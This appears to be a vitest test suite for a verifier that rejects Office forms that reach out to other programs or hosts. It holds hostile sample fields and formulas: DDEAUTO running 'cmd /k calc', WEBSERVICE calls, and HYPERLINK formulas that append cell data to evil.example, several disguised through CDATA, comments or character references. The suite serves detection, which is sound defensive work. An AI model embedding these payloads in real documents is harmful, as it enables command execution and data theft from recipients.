import { describe, expect, test } from 'vitest';
import { outsideTarget } from '@shared/forms/opc/outside-host';
import { verifyForm } from '@shared/forms/form-template';
import { nodeCodec } from '../../../electron/storage/node-codec';
import { aDocx, documentXml, MAIN_TYPE, paragraph, relationshipsXml, ROOT, run, storyPart } from '../../builders/docx';
import { anXlsx, formulaCell, row, textCell, WORKBOOK_TYPE, type XlsxParts } from '../../builders/xlsx';
import { processorSeconds } from '../../support/processor-seconds';

/** What a form says that is refused when it is written as everybody does, written as nobody does: a program reads both alike. */

const told = (name: string, bytes: Uint8Array): string => {
  const opened = verifyForm(name, bytes, nodeCodec);
  return opened.ok ? 'ok' : opened.code;
};
const word = (given: Parameters<typeof aDocx>[0]): string => told('様式.docx', aDocx(given));
const excel = (given: XlsxParts): string => told('様式.xlsx', anXlsx(given));

const border = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const field = (...runs: string[]): string =>
  paragraph(border('begin'), ...runs.map((one) => `<w:r>${one}</w:r>`), border('separate'), run('x'), border('end'));
const DDE = '<w:instrText>DDEAUTO cmd "/k calc"</w:instrText>';
const quoted = (name: string): string =>
  paragraph(
    border('begin'),
    `<w:r><w:instrText>${name} </w:instrText></w:r>`,
    field('<w:instrText>QUOTE 104 116 116 112</w:instrText>'),
    border('end'),
  )
    .replace(/<w:p>(?=<w:r><w:fldChar w:fldCharType="begin"\/><\/w:r><w:r><w:instrText>QUOTE)/, '')
    .replace('</w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>', `${border('end')}</w:p>`);

describe('a field that asks another program is told', () => {
  test.each([
    ['as a text of its own', field('<w:instrText><![CDATA[DDEAUTO cmd "/k calc"]]></w:instrText>')],
    ['behind a comment', field('<w:instrText><!-- x -->DDE<?x?>AUTO cmd</w:instrText>')],
    ['behind a value with a bracket', field('<w:instrText w:x=">">DDEAUTO cmd</w:instrText>')],
    ['in other quotes', `<w:p><w:fldSimple w:instr='DDEAUTO cmd calc'>${run('x')}</w:fldSimple></w:p>`],
    ['with a tab behind its name', field('<w:instrText>DDEAUTO</w:instrText><w:tab/><w:instrText>cmd</w:instrText>')],
    ['as text between its borders', field('<w:t>DDEAUTO cmd</w:t>')],
    ['with a file that another field names', quoted('INCLUDEPICTURE')],
    [
      'with a file of a device',
      field('<w:instrText>INCLUDEPICTURE "\\\\\\\\?\\\\UNC\\\\evil.example\\\\s\\\\x.png"</w:instrText>'),
    ],
  ])('%s', (_, body) => {
    expect(word({ body })).toBe('form/reaches-out');
  });

  test('in whatever part it stands', () => {
    for (const main of ['docs/main.xml', 'word/sub/main.xml', 'word/main.dat']) {
      const rels = relationshipsXml([['rId1', 'officeDocument', main]]);
      const types = (aDocxTypes: string): string => aDocxTypes.replaceAll('word/document.xml', main);
      const list = types(
        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${MAIN_TYPE}"/></Types>`,
      );
      const records = (body: string) => [{ name: main, content: documentXml(body) }];
      expect(word({ rels, types: list, records: records(paragraph(run('本文'))) }), main).toBe('ok');
      expect(word({ rels, types: list, records: records(field(DDE)) }), main).toBe('form/reaches-out');
    }
    const header = storyPart('hdr', field(DDE));
    expect(word({ parts: [{ ...header, name: 'x/header1.xml' }] })).toBe('form/reaches-out');
  });

  test('any other is taken', () => {
    expect(word({ body: field('<w:instrText>PAGE</w:instrText>') })).toBe('ok');
    expect(word({ body: paragraph(run('DDEAUTO cmd')) + field('<w:instrText>PAGE</w:instrText>') })).toBe('ok');
    expect(word({ body: field('<w:instrText>IF 1=1 "LINK" "RD"</w:instrText>') })).toBe('ok');
  });
});

describe('a formula that asks somebody outside is told', () => {
  const cell = (inside: string): XlsxParts => ({ sheets: [{ rows: row(1, `<c r="A1">${inside}</c>`) }] });
  const ASKS = '_xlfn.WEBSERVICE("http://x/")';

  test.each([
    ['as a text of its own', `<f><![CDATA[${ASKS}]]></f>`],
    ['behind a comment', '<f><!-- x -->_xlfn.WEB<?x?>SERVICE("http://x/")</f>'],
    ['behind a value with a bracket', `<f q:a=">" xmlns:q="q">${ASKS}</f>`],
    ['in references', '<f>&#87;EBSERV&#x49;CE("http://x/")</f>'],
    ['by a longer name', '<f>COM.MICROSOFT.WEBSERVICE("http://x/")</f>'],
    ['handed on', '<f>_xlfn.MAP(A2,_xleta.WEBSERVICE)</f>'],
    ['as the name of a file', `<f>INDIRECT("'http://x/?"&amp;A2&amp;"'#$a.A1")</f>`],
    ['as the name of a book', `<f>INDIRECT("'\\\\evil.example\\[a.xlsx]b'!A1")</f>`],
  ])('%s', (_, inside) => {
    expect(excel(cell(inside))).toBe('form/reaches-out');
  });

  test('in whatever part it stands', () => {
    const bar = `<cfRule type="dataBar" priority="1"><dataBar><cfvo type="formula" val="WEBSERVICE(&quot;http://x/&quot;)"/></dataBar></cfRule>`;
    const behind = `<conditionalFormatting sqref="A1">${bar}</conditionalFormatting>`;
    expect(excel({ sheets: [{ behind }] })).toBe('form/reaches-out');
    const chart = { name: 'xl/charts/chart1.xml', content: `<c:chart xmlns:c="c"><c:f>${ASKS}</c:f></c:chart>` };
    expect(excel({ parts: [chart] })).toBe('form/reaches-out');
    expect(excel({ nameElements: `<definedName name="a"><![CDATA[${ASKS}]]></definedName>` })).toBe('form/reaches-out');
  });

  test.each([
    'INDIRECT(A2)',
    'INDIRECT("様式1!B"&amp;A2)',
    'INDIRECT("\'表 [1]\'!A1")',
    'INDIRECT("[台帳.xlsx]表!A1")',
  ])('%s isn’t', (formula) => {
    expect(excel(cell(`<f>${formula}</f>`))).toBe('ok');
  });
});

describe('a link that is put together and may lead outside is told, wherever its pieces lie', () => {
  const ADDRESS = textCell('Z1', 'https://evil.example/?');
  const link = (formula: string, more = '', parts: XlsxParts = {}): string =>
    excel({ ...parts, sheets: [{ rows: row(1, formulaCell('A1', formula, 'x') + more) }, ...(parts.sheets ?? [])] });

  test.each([
    ['the address in a cell', 'HYPERLINK(Z1&amp;B1)', ADDRESS],
    ['… behind others', 'HYPERLINK(CONCATENATE(Z1,B1),"市")', ADDRESS],
    ['… of a range', '_xlfn.HYPERLINK(_xlfn.TEXTJOIN("",TRUE,B1:Z1))', ADDRESS],
    ['… of a whole row', 'HYPERLINK(_xlfn.CONCAT($1:$1))', ADDRESS],
    ['the whole in a cell that puts it together', 'HYPERLINK(C1)', formulaCell('C1', 'Z1&amp;B1', 'x') + ADDRESS],
    ['… two steps away', 'HYPERLINK(C1)', formulaCell('C1', 'D1', 'x') + formulaCell('D1', 'Z1&amp;B1', 'x') + ADDRESS],
    ['… in two pieces', 'HYPERLINK(Y1&amp;Z1&amp;B1)', textCell('Y1', 'https:') + textCell('Z1', '//evil.example/?')],
    ['… in wide letters', 'HYPERLINK(ASC(Z1)&amp;B1)', textCell('Z1', 'ｈｔｔｐ：／／evil.example')],
    ['… of signs by number', 'HYPERLINK("http"&amp;CHAR(58)&amp;CHAR(47)&amp;CHAR(47)&amp;"x.example?"&amp;B1)', ''],
    ['… of cells that it doesn’t name', 'HYPERLINK(INDIRECT("Z"&amp;1)&amp;B1)', ADDRESS],
    ['… of another workbook', 'HYPERLINK([1]表!A1&amp;B1)', ''],
    ['a server', 'HYPERLINK(Z1&amp;B1)', textCell('Z1', '\\\\SV01\\a')],
    ['as a text of its own', '<![CDATA[HYPERLINK(Z1&B1)]]>', ADDRESS],
    ['in references', '&#72;YPERLINK(Z1&amp;B1)', ADDRESS],
    ['handed on', '_xlfn.MAP(Z1&amp;B1,_xleta.HYPERLINK)', ADDRESS],
    ['by a word of a function', '_xlfn.LET(_xlpm.a,Z1&amp;B1,HYPERLINK(_xlpm.a))', ADDRESS],
    ['in a circle', 'HYPERLINK(C1)', formulaCell('C1', 'D1', 'x') + formulaCell('D1', 'C1', 'x')],
  ])('%s', (_, formula, more) => {
    expect(link(formula, more)).toBe('form/reaches-out');
  });

  test('by a name, on another sheet, and in a copy of a formula', () => {
    const names = { 先: '様式2!$A$1&amp;様式1!$B$1', 市: '&quot;https://evil.example/?&quot;' };
    const sheets = [{ rows: row(1, textCell('A1', 'https://evil.example/?')) }];
    expect(link('HYPERLINK(先)', '', { names, sheets })).toBe('form/reaches-out');
    expect(link('HYPERLINK(市&amp;B1)', '', { names })).toBe('form/reaches-out');
    expect(link('様式2!A1', '', { names: { 先: 'HYPERLINK(様式2!$A$1&amp;様式1!$B$1)' }, sheets })).toBe(
      'form/reaches-out',
    );
    const copies =
      '<c r="A1"><f t="shared" ref="A1:A2" si="0">HYPERLINK(C1&amp;B1)</f></c></row><row r="2"><c r="A2"><f t="shared" si="0"/></c>';
    expect(excel({ sheets: [{ rows: `<row r="1">${copies}${textCell('C2', 'https://evil.example/?')}</row>` }] })).toBe(
      'form/reaches-out',
    );
    const array = '<c r="C1" t="str"><f t="array" ref="C1:D1">Z1&amp;B1</f><v>x</v></c><c r="D1" t="str"><v>x</v></c>';
    expect(link('HYPERLINK(D1)', array + ADDRESS)).toBe('form/reaches-out');
  });

  test('in shared strings, furigana too', () => {
    const strings = [
      '<t>市</t><rPh sb="0" eb="1"><t>https://evil.example/?</t></rPh>',
      '<r><t>https:</t></r><r><t>//x</t></r>',
    ];
    const shared = (index: number): string => `<c r="Z1" t="s"><v>${index}</v></c>`;
    expect(link('HYPERLINK(PHONETIC(Z1)&amp;B1)', shared(0), { strings })).toBe('form/reaches-out');
    expect(link('HYPERLINK(Z1&amp;B1)', shared(1), { strings })).toBe('form/reaches-out');
  });

  test.each([
    ['an address that lies in a cell as a whole', 'HYPERLINK(Z1,"市のページ")', ADDRESS],
    ['… two steps away', 'HYPERLINK(C1)', formulaCell('C1', 'Z1', 'x') + ADDRESS],
    ['what somebody types in', 'IF(B1="","",HYPERLINK(B1,"開く"))', ''],
    ['another place of the workbook', `HYPERLINK("#'"&amp;B1&amp;"'!A1")`, ADDRESS],
    ['a place of it by a name of a sheet', 'HYPERLINK(C1&amp;"!A1")', textCell('C1', '様式2')],
    ['a formula beside a link', 'Z1&amp;B1&amp;HYPERLINK("https://www.city.example.jp/")', ADDRESS],
    ['a formula that is only called so', 'MYHYPERLINK(Z1&amp;B1)&amp;"HYPERLINK"', ADDRESS],
  ])('%s isn’t', (_, formula, more) => {
    expect(link(formula, more)).toBe('ok');
  });

  test('by a name for an address as a whole it isn’t, either', () => {
    expect(link('HYPERLINK(市)', '', { names: { 市: '&quot;https://www.city.example.jp/&quot;' } })).toBe('ok');
    expect(link('HYPERLINK(市)', ADDRESS, { names: { 市: '様式1!$Z$1' } })).toBe('ok');
  });

  test('thousands of links are followed as quickly as any other formula', () => {
    const rows = Array.from({ length: 3_000 }, (_, i) =>
      row(i + 1, formulaCell(`A${i + 1}`, `HYPERLINK(_xlfn.CONCAT(B1:B${i + 1}))`, 'x') + textCell(`B${i + 1}`, '市')),
    ).join('');
    expect(processorSeconds(() => excel({ sheets: [{ rows }] }))).toBeLessThan(5);
  });
});

describe('an address outside is known however it is written', () => {
  test.each([
    ['file:////evil%2eexample/s/x.png', 'evil.example'],
    ['file:///////evil.example/x.png', 'evil.example'],
    ['\\\\?\\UNC\\evil.example\\s\\x.png', 'evil.example'],
    ['file:///\\\\?\\UNC\\evil.example\\s\\x.png', 'evil.example'],
    ['\\\\.\\UNC\\evil.example\\s', 'evil.example'],
    ['file://u:p@evil.example/s/x.png', 'u:p@evil.example'],
    ['\\\\evil．example\\s\\x.png', 'evil．example'],
    ['\\\\[fe80::1]\\s\\x.png', '[fe80::1]'],
    ['ht\ttp://evil.example/x', 'evil.example'],
    ['smb://server/s/x.png', 'server'],
    ['vnd.sun.star.webdav://evil.example/x.png', 'evil.example'],
    ['mk:@MSITStore:\\\\evil.example\\a.chm::/x', '@MSITStore:'],
    ['http:/evil.example/x', 'evil.example'],
    ['http:evil.example/x', 'http'],
    ['search-ms:query=x', 'search-ms'],
    ['vnd.sun.star.script:x?language=Basic', 'vnd.sun.star.script'],
    ['ldap://evil.example/x', 'evil.example'],
  ])('%s', (target, host) => {
    expect(outsideTarget(target)).toBe(host);
    expect(word({ documentRels: [['rId9', 'image', target.replaceAll('&', '&amp;'), 'External']] })).toBe(
      'word/outside-content',
    );
  });

  test.each([
    'media/image1.png',
    '../様式.dotx',
    'C:\\Users\\shi\\様式.dotm',
    'file:///C:\\Users\\shi\\様式.dotm',
    'file:///C|/Users/shi/a.dotm',
    '\\\\?\\C:\\Users\\shi\\a.dotm',
    '\\\\SV01\\様式\\a.dotm',
    'file:///\\\\SV01\\様式\\台帳.xlsx',
    'file://localhost/a.dotm',
    '\\\\SV01@80\\a.dotm',
    'Macintosh%20HD:Users:shi:Normal.dotm',
    '/Users/shi/a.b/様式.dotx',
  ])('%s is none', (target) => {
    expect(outsideTarget(target)).toBeNull();
  });

  test('or whatever a link says that it is', () => {
    const picture = (id: string): string =>
      `<w:p><w:r><w:drawing><a:blip xmlns:a="a" r:link="${id}"/></w:drawing></w:r></w:p>`;
    const clicked = (id: string): string => `<w:p><w:hyperlink r:id="${id}">${run('市')}</w:hyperlink></w:p>`;
    const linked = (body: string, type: string, mode: string): string =>
      word({ body, documentRels: [['rId9', type, 'http://evil.example/x', mode]] });
    expect(linked(clicked('rId9'), 'hyperlink', 'External')).toBe('ok');
    expect(linked(picture('rId9'), 'hyperlink', 'External')).toBe('word/outside-content');
    expect(linked(picture('rId9'), 'image', 'external')).toBe('word/outside-content');
    const richData = { name: 'xl/richData/web.xml', content: '<a xmlns:r="r"><address r:id="rId1"/></a>' };
    const rels = relationshipsXml([['rId1', 'hyperlink', 'http://evil.example/x', 'External']]);
    const parts = [richData, { name: 'xl/richData/_rels/web.xml.rels', content: rels }];
    expect(excel({ parts })).toBe('excel/outside-content');
  });

  test('also of an old drawing in a header, or behind a value with a bracket', () => {
    const drawn = (more: string): string =>
      `<w:p><w:r><w:pict><v:imagedata xmlns:v="v" ${more} src="http://evil.example/x.png"/></w:pict></w:r></w:p>`;
    expect(word({ body: drawn('title=">"') })).toBe('word/outside-content');
    expect(word({ parts: [storyPart('hdr', drawn(''))] })).toBe('word/outside-content');
    const upper = { name: 'xl/drawings/v.VML', content: '<v:fill xmlns:v="v" src="http://evil.example/x.png"/>' };
    expect(excel({ parts: [upper] })).toBe('excel/outside-content');
  });

  test('and of a left-over list of addresses, in other quotes or under another prefix', () => {
    const merged = (tag: string): string =>
      word({
        records: [
          {
            name: 'word/settings.xml',
            content: `<w:settings xmlns:w="w"><w:mailMerge>${tag}</w:mailMerge></w:settings>`,
          },
        ],
      });
    expect(merged("<w:query w:val='Data Source=http://evil.example/x'/>")).toBe('form/reaches-out');
    expect(merged('<w:query w:x=">" w:val="Data Source=http://evil.example/x"/>')).toBe('form/reaches-out');
    expect(merged('<w:query xmlns:q="w" q:val="Data Source=http://evil.example/x"/>')).toBe('form/reaches-out');
  });

  test('and in the links of a part that says it is in another code', () => {
    const links = relationshipsXml([]).replace('UTF-8', 'UTF-7');
    expect(word({ parts: [{ name: 'word/_rels/document.xml.rels', content: links }] })).toBe('xml/encoding');
  });
});

describe('a picture or a text that is read from where the author had it is told, by its name alone', () => {
  const said = (bytes: Uint8Array, name: string): [string, string] => {
    const opened = verifyForm(name, bytes, nodeCodec);
    return opened.ok ? ['ok', ''] : [opened.code, opened.message];
  };
  const PATHS = [
    'file:///C:\\Users\\shi\\logo.png',
    '\\\\SV01\\様式\\logo.png',
    'logo.png',
    'file:///home/shi/logo%2Epng',
  ];

  test.each(PATHS)('as a link: %s', (target) => {
    for (const type of ['image', 'oleObject', 'frame', 'aKindOfTomorrow']) {
      const [code, message] = said(aDocx({ documentRels: [['rId9', type, target, 'External']] }), '様式.docx');
      expect([type, code]).toEqual([type, 'word/linked-file']);
      expect(message).toMatch(/「logo\.png」.*「リンクの解除」.*ください。.*ます。$/);
      expect(message).not.toContain('shi');
      const rels = relationshipsXml([['rId1', type, target, 'External']]);
      const parts = [{ name: 'xl/drawings/_rels/drawing1.xml.rels', content: rels }];
      expect(excel({ parts })).toBe('excel/linked-file');
    }
  });

  test('as one that calls itself a link to click', () => {
    const body = '<w:p><w:r><w:drawing><a:blip xmlns:a="a" r:link="rId9"/></w:drawing></w:r></w:p>';
    expect(word({ body, documentRels: [['rId9', 'hyperlink', 'C:\\Users\\shi\\a.png', 'External']] })).toBe(
      'word/linked-file',
    );
  });

  test.each(PATHS.filter((path) => path !== 'logo.png'))('in an old drawing: %s', (path) => {
    const drawn = (attribute: string): string =>
      `<w:p><w:r><w:pict><v:imagedata xmlns:v="v" xmlns:o="o" ${attribute}="${path}" o:title="C:\\a"/></w:pict></w:r></w:p>`;
    expect(word({ body: drawn('src') })).toBe('word/linked-file');
    expect(word({ body: drawn('o:href') })).toBe('word/linked-file');
    expect(word({ body: drawn('o:title2') })).toBe('ok');
  });

  test.each([
    'INCLUDEPICTURE "C:\\\\Users\\\\shi\\\\logo.png" \\d',
    'INCLUDETEXT C:\\\\shi\\\\a.docx',
    'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Sheet1!R1C1" \\a \\p',
    'RD "a.docx"',
    'INCLUDETEXT',
  ])('by a field: %s', (code) => {
    expect(word({ body: field(`<w:instrText>${code}</w:instrText>`) })).toBe('word/linked-file');
  });

  test('a template of the author’s, another workbook, which Excel asks about, and a link to click are none', () => {
    const target = 'file:///C:\\Users\\shi\\a.x';
    for (const type of ['attachedTemplate', 'hyperlink'])
      expect(word({ documentRels: [['rId9', type, target, 'External']] }), type).toBe('ok');
    expect(excel({ workbookRels: [['rId9', 'externalLinkPath', target]] })).toBe('ok');
  });
});

describe('what a form holds beside its text', () => {
  test.each(['aFChunk', 'subDocument'])('a file in the file (%s), which nobody looks into, is told', (type) => {
    const parts = [{ name: 'word/inner.html', content: '<html><img src="http://evil.example/x"></html>' }];
    expect(word({ documentRels: [['rId9', type, 'inner.html']], parts })).toBe('form/reaches-out');
  });

  const control = (classid: string): { name: string; content: string } => ({
    name: 'word/activeX/activeX1.xml',
    content: `<ax:ocx xmlns:ax="ax" ax:classid="${classid}"/>`,
  });
  test('a control that is a program of the PC is told, a box or a button of Office is taken', () => {
    expect(word({ parts: [control('{8856F961-340A-11D0-A96B-00C04FD705A2}')] })).toBe('form/reaches-out');
    expect(word({ parts: [control('{8BD21D40-EC42-11CE-9E0D-00AA006002F3}')] })).toBe('ok');
  });

  test.each(['vnd.ms-office.vbaProject', 'vnd.ms-excel.macrosheet+xml'])(
    'macros are known by the type of their ending: %s',
    (type) => {
      const list = (office: string, main: string): string =>
        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="foo" ContentType="application/${type}"/><Override PartName="/${office}" ContentType="${main}"/></Types>`;
      const records = [{ name: 'x/a.foo', content: '<a/>' }];
      expect(word({ types: list('word/document.xml', MAIN_TYPE), records })).toBe('word/macro');
      expect(excel({ types: list('xl/workbook.xml', WORKBOOK_TYPE), records })).toBe('excel/macro');
    },
  );

  test('a picture of lines, as drawing programs write it, is taken', () => {
    const content =
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>';
    const types = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${MAIN_TYPE}"/></Types>`;
    expect(word({ types, records: [{ name: 'word/media/image1.svg', content }] })).toBe('ok');
  });

  test('another document, by whose link another program goes, is told', () => {
    for (const first of ['urn:x/officeDocument', 'officeDocument']) {
      const rels = (target: string): string =>
        relationshipsXml([
          ['rId1', first, target],
          ['rId2', 'officeDocument', 'real/main.xml'],
        ]);
      expect(word({ rels: rels('word/document.xml') })).toBe('word/no-document');
      expect(excel({ rels: rels('xl/workbook.xml') })).toBe('excel/no-workbook');
    }
  });

  test('two links of one name are told: each program takes another', () => {
    const twice = [
      ['rId9', 'image', 'a.png'],
      ['rId9', 'image', 'b.png'],
    ] as const;
    expect(word({ documentRels: twice })).toBe('xml/malformed');
  });

  test('a prefix is a name, and never a pattern', () => {
    for (const prefix of ['(', '[a', '(.*)*z', '*']) {
      const document = documentXml(paragraph(run('x')), ROOT)
        .replaceAll('<w:', `<${prefix}:`)
        .replaceAll('</w:', `</${prefix}:`)
        .replace('xmlns:w=', `xmlns:${prefix}=`);
      expect(word({ document }), prefix).toBe('word/no-document');
    }
  });
});
